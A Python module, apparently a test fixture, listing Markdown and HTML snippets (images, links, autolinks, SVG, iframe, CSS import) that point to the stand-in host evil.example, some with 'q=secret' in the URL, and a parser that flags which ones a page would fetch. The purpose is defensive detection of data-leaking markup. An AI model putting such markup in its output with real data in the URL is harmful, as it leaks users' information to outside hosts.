"""What a page makes an image, a link or a tag of; all of it goes to one address that nobody may ask."""

import re

from markdown_it import MarkdownIt

EVIL = "evil.example"

MARKUP: dict[str, str] = {
    "image": f"![x](http://{EVIL}/?q=secret)",
    "image-relative": f"![x](//{EVIL}/p.png)",
    "image-title": f'![x](https://{EVIL}/p.png "All is well")',
    "image-angle": f"![x](<http://{EVIL}/a b.png>)",
    "image-many-marks": f"!!!![x](http://{EVIL}/p.png)",
    "image-reference": f"![x][r]\n\n[r]: http://{EVIL}/p.png\n",
    "image-collapsed": f"![r][]\n\n[r]: http://{EVIL}/p.png\n",
    "image-shortcut": f"![r]\n\n[r]: <http://{EVIL}/p.png> 'title'\n",
    "image-in-link": f"[![x](http://{EVIL}/p.png)](http://{EVIL}/)",
    "image-in-list": f"- one\n- ![x](http://{EVIL}/p.png)\n",
    "image-in-table": f"| a |\n|---|\n| ![x](http://{EVIL}/p.png) |\n",
    "link": f"[click](http://{EVIL}/)",
    "link-mail": f"[click](mailto:me@{EVIL})",
    "link-nested": f"[a [b](http://{EVIL}/) c](http://{EVIL}/)",
    "link-reference": f"[click][r]\n\n[r]: http://{EVIL}/\n",
    "link-bare-reference": f"[r]\n\n   [r]:http://{EVIL}/\n",
    "link-escaped": f"\\![x](http://{EVIL}/) \\\\[y](http://{EVIL}/)",
    "autolink": f"See http://{EVIL}/?q=secret",
    "autolink-upper": f"See HTTPS://{EVIL}/",
    "autolink-nested": f"hthttp://tp://{EVIL}/",
    "autolink-angle": f"<http://{EVIL}/>",
    "autolink-www": f"Go to www.{EVIL} or wwww.{EVIL}",
    "autolink-mail": f"Write to me@{EVIL}",
    "html-image": f'<img src="http://{EVIL}/p.png">',
    "html-upper": f"<IMG SRC=//{EVIL}/p.png>",
    "html-svg": f"<svg><image href='//{EVIL}/p.svg'/></svg>",
    "html-comment": f"<!-- x --><a href='//{EVIL}'>y</a>",
    "html-element": f"<ha-alert title='x'><iframe src='//{EVIL}'></iframe></ha-alert>",
    "html-style": f"<style>@import url(//{EVIL}/x.css)</style>",
}

_PARSER = MarkdownIt("commonmark", {"html": True}).enable("table")
_FETCHED = {"image", "link_open", "html_inline", "html_block"}
# GitHub's autolinks, which the parser above knows only with another package.
_AUTOLINK = re.compile(r"(?:https?|ftp)://|www\.\w|\w@\w+\.\w", re.IGNORECASE)


def fetched(text: str) -> set[str]:
    """Return what a page would make of a text that leads somewhere."""
    tokens = [token for block in _PARSER.parse(text) for token in (block, *(block.children or ()))]
    found = {token.type for token in tokens} & _FETCHED
    return found | ({"autolink"} if _AUTOLINK.search(text) else set())
